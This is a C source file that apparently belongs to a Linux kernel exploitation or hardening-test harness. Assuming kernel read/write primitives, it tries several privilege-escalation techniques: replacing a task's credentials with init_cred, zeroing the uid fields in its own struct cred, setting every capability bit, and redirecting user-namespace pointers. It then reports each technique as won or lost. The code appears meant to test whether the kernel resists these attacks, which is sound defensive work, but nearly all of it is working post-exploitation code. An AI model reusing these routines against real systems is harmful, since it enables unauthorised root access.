// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on credentials that are in force, and on which ones a task has. */
#include <sched.h>
#include <sys/time.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

#define HIGH_LEVEL	1000

/* ---- what others use, too ---- */

uint64_t find_ids(uint64_t cred)
{
	unsigned int ids[CRED_SIZE / sizeof(unsigned int)];
	size_t i, n;

	if (kread(cred, ids, sizeof(ids)))
		return 0;
	for (i = 0; i + CRED_IDS <= sizeof(ids) / sizeof(ids[0]); i++) {
		for (n = 0; n < CRED_IDS && ids[i + n] == ATTACKER_UID; n++)
			;
		if (n == CRED_IDS)
			return cred + i * sizeof(ids[0]);
	}
	return 0;
}

/* It has the same ids at the same place. */
uint64_t find_prepared(uint64_t cred)
{
	uint64_t words[CRED_SIZE / sizeof(uint64_t)], ids = find_ids(cred);
	size_t i;

	if (!ids || kread(cred, words, sizeof(words)))
		return 0;
	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
		if (is_kernel_address(words[i]) && find_ids(words[i]) == words[i] + (ids - cred))
			return words[i];
	return cred;
}

bool can_set_clock(void)
{
	struct timeval now;

	/* A clock that starts when the kernel does is not set back. */
	gettimeofday(&now, NULL);
	now.tv_sec++;
	return !settimeofday(&now, NULL);
}

/* ---- which ones a task has ---- */

enum outcome task_cred_pointer(void)
{
	uint64_t init_cred = ksymbol("init_cred");
	int uid = getuid(), now, err;
	struct task task;

	if (ktask(0, &task) || !init_cred)
		return broken("init_cred not found");
	err = kwrite64(task.cred_slot, init_cred);
	err = err ?: kwrite64(task.real_cred_slot, init_cred);
	now = getuid();
	/* exit() would drop references that were never taken. */
	kwrite64(task.real_cred_slot, task.cred);
	kwrite64(task.cred_slot, task.cred);
	if (err || now)
		return lost("store gave %d, uid=%d", err, now);
	return won("task->cred set to init_cred: uid=%d became uid=%d", uid, now);
}

enum outcome cred_slot(void)
{
	struct task own, first;
	uint32_t number, other;
	int uid, err;

	if (ktask(0, &own) || ktask(1, &first) ||
	    kread(own.cred_slot + RECORD_NUMBER, &number, sizeof(number)) ||
	    kread(first.cred_slot + RECORD_NUMBER, &other, sizeof(other)))
		return broken("no task found");
	err = kwrite(own.cred_slot + RECORD_NUMBER, &other, sizeof(other));
	uid = getuid();
	kwrite(own.cred_slot + RECORD_NUMBER, &number, sizeof(number));
	if (err || uid)
		return lost("store gave %d, with record %u of process 1 uid=%d", err, other, uid);
	return won("record %u of process 1 taken for one's own: uid=%d", other, uid);
}

/* ---- what is in force ---- */

enum outcome live_cred(void)
{
	static const unsigned int zeros[CRED_IDS];
	int uid = getuid(), err;
	struct task task;
	uint64_t ids;

	if (ktask(0, &task))
		return broken("no cred found");
	ids = find_ids(task.cred);
	if (!ids)
		return broken("no ids found in struct cred");
	err = kwrite(ids, zeros, sizeof(zeros));
	if (err || getuid())
		return lost("store gave %d, uid=%d", err, getuid());
	return won("own struct cred overwritten: uid=%d became uid=%d euid=%d", uid,
		   getuid(), geteuid());
}

enum outcome live_caps(void)
{
	struct task task;
	uint64_t ids;
	bool can;
	int err;

	if (ktask(0, &task))
		return broken("no cred found");
	ids = find_ids(task.cred);
	if (!ids || can_set_clock())
		return broken("no ids found in struct cred, or capabilities");
	err = kwrite64(ids + CRED_EFFECTIVE, ~0UL);
	can = can_set_clock();
	kwrite64(ids + CRED_EFFECTIVE, 0);
	if (!can)
		return lost("store gave %d, the clock cannot be set", err);
	return won("all capabilities written into own struct cred: uid=%d sets the clock", getuid());
}

/* ---- a namespace of one's own ---- */

uint64_t enter_namespace(void)
{
	uint64_t first = ksymbol(FIRST_NS), slot;
	struct task task;

	if (ktask(0, &task) || !first)
		return 0;
	slot = find_word(task.cred, CRED_SIZE, first);
	if (!slot || unshare(CLONE_NEWUSER))
		return 0;
	slot -= task.cred;
	return ktask(0, &task) || can_set_clock() ? 0 : task.cred + slot;
}

enum outcome live_user_ns(void)
{
	uint64_t slot = enter_namespace(), own = slot ? kread64(slot) : 0;
	bool can;
	int err;

	if (!own)
		return broken("no namespace of one's own");
	err = kwrite64(slot, ksymbol(FIRST_NS));
	can = can_set_clock();
	kwrite64(slot, own);
	if (!can)
		return lost("store gave %d, the clock cannot be set", err);
	return won("pointer to the own user namespace turned to the first one: uid=%d sets the clock",
		   getuid());
}

/* Who is above a namespace and owns it has all capabilities there. */
static bool own_first_namespace(uint64_t parent, uint64_t own, uid_t uid)
{
	uint64_t old = kread64(parent), rest = kread64(parent + NS_LEVEL);
	bool can;

	kwrite64(parent + NS_LEVEL, HIGH_LEVEL | (uint64_t)uid << 32);
	kwrite64(parent, own);
	can = can_set_clock();
	kwrite64(parent, old);
	kwrite64(parent + NS_LEVEL, rest);
	return can;
}

enum outcome init_user_ns(void)
{
	uint64_t first = ksymbol(FIRST_NS), slot = enter_namespace(), own, parent;

	own = slot ? kread64(slot) : 0;
	parent = own ? find_word(own, NS_SIZE, first) : 0;
	if (!parent)
		return broken("no namespace of one's own, or none above it");
	if (!own_first_namespace(first + (parent - own), own, ATTACKER_UID))
		return lost("the clock cannot be set");
	return won("the first user namespace put below one's own, and owned: uid=%d sets the clock",
		   getuid());
}
